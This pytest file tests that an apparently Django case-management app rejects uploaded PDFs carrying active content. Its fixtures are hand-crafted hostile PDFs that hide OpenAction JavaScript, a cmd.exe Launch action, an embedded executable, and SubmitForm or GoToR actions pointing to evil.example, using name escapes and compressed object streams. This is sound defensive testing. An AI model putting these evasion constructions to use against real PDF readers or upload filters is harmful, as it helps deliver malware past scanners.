"""Issue 14 point 8: a PDF is parsed and every object walked, so name escapes and compressed object streams do not
hide active content; what cannot be read completely is refused; an ordinary PDF still goes through."""

from __future__ import annotations

import io
import zlib

import pytest
import weasyprint
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pypdf import PdfWriter

from cases.models import Attachment
from core.testing import tiny_pdf
from org.services import api_token_create


def hand_pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF written by hand with a correct cross-reference table; object n is objects[n-1]."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d " % (len(objects) + 1) + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def object_stream_pdf(catalog: bytes) -> bytes:
    """PDF 1.5: catalog, pages and page packed into a FlateDecode object stream, found through an xref stream.
    No name of theirs appears in the file's bytes."""
    packed = [catalog, PAGES, PAGE]
    header, body = b"", b""
    for number, obj in enumerate(packed, start=1):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    compressed = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    objstm_at = len(out)
    out += (b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(compressed))) + compressed + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    rows += [b"\x02" + (4).to_bytes(4, "big") + index.to_bytes(2, "big") for index in range(3)]
    rows += [b"\x01" + objstm_at.to_bytes(4, "big") + (0).to_bytes(2, "big"),
             b"\x01" + xref_at.to_bytes(4, "big") + (0).to_bytes(2, "big")]
    table = b"".join(rows)
    out += (b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
            + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


CATALOG_OPEN_SCRIPT = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
MALICIOUS = {
    # /OpenAction and /JavaScript spelled with #xx escapes: the same names to a reader.
    "escaped-open-action": hand_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>", PAGES, PAGE),
    "escaped-page-aa-launch": hand_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /#41A << /O << /S /#4Caunch /F (cmd.exe) >> >> >>"),
    "escaped-embedded-file": hand_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /Embedded#46iles 4 0 R >> >>", PAGES, PAGE,
        b"<< /Names [(a.exe) 5 0 R] >>", b"<< /Type /Filespec /F (a.exe) >>"),
    "object-stream-open-action": object_stream_pdf(CATALOG_OPEN_SCRIPT),
    "object-stream-submit-form": object_stream_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://evil.example/) >> >>"),
    "remote-goto": hand_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >> >>",
        PAGES, PAGE),
}


def writer_pdf_with_embedded_file() -> bytes:
    """pypdf's own writer embedding a file."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("setup.exe", b"MZ not really")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def api(street):
    _, key = api_token_create(user=street.handler)
    return Client(HTTP_AUTHORIZATION=f"Bearer {key}")


def test_hand_written_pdfs_are_read_as_intended():
    """The fixtures are real PDFs: pypdf finds the hidden action once it parses them (so a refusal is not a parse
    failure), and the object-stream file shows none of the names in its bytes."""
    from pypdf import PdfReader

    for name in ("escaped-open-action", "object-stream-open-action"):
        root = PdfReader(io.BytesIO(MALICIOUS[name]), strict=True).trailer["/Root"]
        assert root["/OpenAction"]["/S"] == "/JavaScript", name
    raw = MALICIOUS["object-stream-open-action"]
    assert b"OpenAction" not in raw and b"JavaScript" not in raw and b"Catalog" not in raw


@pytest.mark.parametrize("name", sorted(MALICIOUS))
def test_active_pdf_refused_through_the_api(street, api, name):
    case = street.signed_case()
    response = api.post(f"/api/cases/{case.pk}/attachments", {"file": SimpleUploadedFile("报告.pdf", MALICIOUS[name])})
    assert response.status_code == 422, response.content
    assert "脚本或嵌入内容" in response.json()["message"]
    assert not Attachment.objects.exists()


def test_writer_made_embedded_file_refused(street, api):
    case = street.signed_case()
    response = api.post(f"/api/cases/{case.pk}/attachments",
                        {"file": SimpleUploadedFile("a.pdf", writer_pdf_with_embedded_file())})
    assert response.status_code == 422 and "脚本" in response.json()["message"]


@pytest.mark.parametrize("name", ["escaped-open-action", "object-stream-open-action"])
def test_active_pdf_refused_on_the_page_with_its_message(street, name):
    case = street.signed_case()
    client = Client()
    client.force_login(street.handler)
    response = client.post(f"/cases/{case.pk}/attachments/",
                           {"file": SimpleUploadedFile("报告.pdf", MALICIOUS[name]), "note": "整改报告"})
    assert response.status_code == 422
    assert "PDF 文件含有脚本或嵌入内容" in response.content.decode()
    assert not Attachment.objects.exists()


UNREADABLE = {
    "truncated": tiny_pdf()[:-60],
    "no-xref": b"%PDF-1.4\n1 0 obj<< /Type /Catalog >>endobj\n%%EOF\n",
    "dangling-root": hand_pdf(b"<< /Type /Catalog /Pages 9 0 R >>"),
    "broken-object-stream": object_stream_pdf(CATALOG_OPEN_SCRIPT).replace(b"/FlateDecode", b"/LZWDecode  "),
}


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("geheim", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("name", [*sorted(UNREADABLE), "encrypted"])
def test_pdf_that_cannot_be_checked_completely_is_refused(street, api, name):
    data = encrypted_pdf() if name == "encrypted" else UNREADABLE[name]
    case = street.signed_case()
    response = api.post(f"/api/cases/{case.pk}/attachments", {"file": SimpleUploadedFile("a.pdf", data)})
    assert response.status_code == 422, response.content
    assert "无法完整检查的 PDF 已拒绝" in response.json()["message"]


def test_ordinary_pdfs_are_accepted_on_api_and_page(street, api):
    case = street.signed_case()
    report = weasyprint.HTML(string="<h1>整改报告</h1><p><a href='https://example.org/'>链接</a></p>").write_pdf()
    for data in (tiny_pdf(), report):
        response = api.post(f"/api/cases/{case.pk}/attachments", {"file": SimpleUploadedFile("报告.pdf", data)})
        assert response.status_code == 201, response.content
    client = Client()
    client.force_login(street.handler)
    page = client.post(f"/cases/{case.pk}/attachments/", {"file": SimpleUploadedFile("b.pdf", tiny_pdf()), "note": "x"})
    assert page.status_code == 302
    assert Attachment.objects.filter(case=case).count() == 3
